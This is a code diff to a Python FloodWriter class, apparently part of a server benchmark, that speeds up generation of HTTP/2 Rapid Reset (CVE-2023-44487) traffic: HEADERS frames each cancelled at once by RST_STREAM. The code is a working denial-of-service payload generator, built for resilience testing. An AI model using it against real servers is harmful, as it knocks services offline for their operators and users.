@@ -40,6 +40,12 @@ KINDS = (
 )
 
 
+def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
+    return (
+        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big")
+    ) + payload
+
+
 def _wire(frames: Iterator[Frame] | list[Frame]) -> bytes:
     return b"".join(f.serialize() for f in frames)
 
@@ -82,12 +88,19 @@ class FloodWriter:
 
     def rapid_reset(self, n: int) -> bytes:
         """``n`` requests each reset at once (CVE-2023-44487)."""
-        out = []
-        for _ in range(n):
+        # The same header list each time: once a block has been encoded, HPACK makes every
+        # later one the same bytes (indexed fields, no table change), so blocks are reused and
+        # frames packed directly (the bench's attacker must not be the bottleneck it measures).
+        block = self._block()
+        cancel = CANCEL.to_bytes(4, "big")
+        out = bytearray()
+        for i in range(n):
+            if i == 1:
+                block = self._block()  # every block from here on is this one
             sid = self._stream()
-            out.append(HeadersFrame(sid, self._block(), flags=["END_HEADERS", "END_STREAM"]))
-            out.append(RstStreamFrame(sid, error_code=CANCEL))
-        return _wire(out)
+            out += _frame(0x1, 0x5, sid, block)  # HEADERS, END_STREAM | END_HEADERS
+            out += _frame(0x3, 0x0, sid, cancel)  # RST_STREAM(CANCEL)
+        return bytes(out)
 
     def pings(self, n: int) -> bytes:
         """``n`` PING frames, each the server must acknowledge."""
